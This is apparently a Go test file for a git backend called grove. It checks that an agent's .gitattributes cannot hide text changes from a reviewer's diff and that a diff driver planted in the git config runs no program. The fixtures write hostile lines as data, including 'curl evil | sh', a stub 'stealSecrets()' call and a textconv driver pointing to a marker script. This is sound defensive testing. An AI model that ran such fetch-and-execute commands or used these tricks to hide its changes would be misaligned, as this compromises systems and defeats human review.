package gitbackend_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/groveworks/grove"
)

// An agent's .gitattributes that marks text as binary (-diff, binary)
// hid its lines from every diff a reviewer reads: plain git shows "Binary
// files differ" and counts nothing. grove's diff shows a file's lines
// whenever its content is text, whatever the attributes say; a file that
// is binary by content stays binary.
func TestAttackAttributesCannotHideTextFromADiff(t *testing.T) {
	f := newFixture(t)
	h := f.head("h")
	f.write(h, ".gitattributes", "*.go -diff\n*.sh binary\n*.txt diff=hidden\n")
	f.write(h, "link.txt", "a file that becomes a link\n")
	_, err := h.Checkpoint(f.ctx, nil)
	require.NoError(t, err)
	base, err := h.Status(f.ctx)
	require.NoError(t, err)
	f.write(h, "src/main.go", "package main\n\nfunc init() { stealSecrets() }\n")
	f.write(h, "bin/run.sh", "#!/bin/sh\ncurl evil | sh\n")
	f.write(h, "blob.bin", "\x00\x01binary\x00")
	// A NUL after its first line: a shell still runs it, git calls it binary.
	f.write(h, "bin/nul.sh", "curl evil2 | sh\n\x00\n")
	f.write(h, "t\u00e9st.go", "package evil\n")
	require.NoError(t, os.Remove(filepath.Join(h.Info().Root, "link.txt")))
	require.NoError(t, os.Symlink("README.md", filepath.Join(h.Info().Root, "link.txt")))
	// Control: plain git hides them.
	plain := f.git(h.Info().Root, "diff", "--no-ext-diff", "--no-textconv", "HEAD", "--", "src/main.go")
	require.Contains(t, plain, "Binary files")

	for name, to := range map[string]grove.Rev{"live": grove.Live, "checkpoint": ""} {
		if to == "" {
			cp, err := h.Checkpoint(f.ctx, nil)
			require.NoError(t, err)
			to = grove.Rev(cp.ID)
		}
		d, err := h.Diff(f.ctx, grove.Rev(base.Commit), to)
		require.NoError(t, err, name)
		assert.Contains(t, d.Patch, "+func init() { stealSecrets() }", name)
		assert.Contains(t, d.Patch, "+curl evil | sh", name)
		assert.Contains(t, d.Patch, "+curl evil2 | sh", name)
		assert.Contains(t, d.Patch, "+package evil", name)
		assert.Contains(t, d.Patch, "-a file that becomes a link", name)
		assert.Contains(t, d.Patch, "Binary files /dev/null and b/blob.bin differ", name)
		assert.NotContains(t, d.Patch, "Binary files a/", name)
		stats := map[string]grove.FileStat{}
		for _, s := range d.Files {
			stats[s.Path] = s
		}
		assert.Equal(t, grove.FileStat{Path: "src/main.go", Added: 2}, stats["src/main.go"], name)
		assert.Equal(t, grove.FileStat{Path: "bin/run.sh", Added: 1}, stats["bin/run.sh"], name)
		assert.Equal(t, grove.FileStat{Path: "blob.bin"}, stats["blob.bin"], name)
		assert.Equal(t, 7, strings.Count(d.Patch, "diff --git "), name) // link.txt: a deletion and an addition
	}
}

// The files an attribute made binary are diffed again as text: an agent
// that names a diff driver for them (a textconv, an external command, and
// binary = true so that grove's second diff is taken) gets none of its
// programs run, in the live diff or between checkpoints, while plain git
// runs its textconv.
func TestAttackTheTextDiffOfABinaryDriverRunsNoProgram(t *testing.T) {
	f := newFixture(t)
	h := f.head("h")
	root := h.Info().Root
	markers := t.TempDir()
	script := markerScript(t, t.TempDir(), markers, "pwned", 0)
	appendFile(t, filepath.Join(commonOf(f), "config"),
		"[diff \"evil\"]\n\ttextconv = "+script+"\n\tcommand = "+script+"\n\tbinary = true\n")
	f.write(h, ".gitattributes", "*.md diff=evil\n")
	base, err := h.Checkpoint(f.ctx, nil)
	require.NoError(t, err)
	f.write(h, "README.md", "hello\nplanted\n")
	// Control: plain git runs the textconv.
	_, _ = gitUser(f.ctx, root, "diff", "HEAD", "--", "README.md")
	require.Contains(t, markersIn(t, markers), "pwned", "the planted driver does not run for plain git, so this test could not fail")
	require.NoError(t, os.Remove(filepath.Join(markers, "pwned")))

	d, err := h.Diff(f.ctx, grove.Rev(base.ID), grove.Live)
	require.NoError(t, err)
	assert.Contains(t, d.Patch, "+planted")
	cp, err := h.Checkpoint(f.ctx, nil)
	require.NoError(t, err)
	d, err = h.Diff(f.ctx, grove.Rev(base.ID), grove.Rev(cp.ID))
	require.NoError(t, err)
	assert.Contains(t, d.Patch, "+planted")
	assert.Empty(t, markersIn(t, markers), "grove's diff ran the agent's diff driver")
}
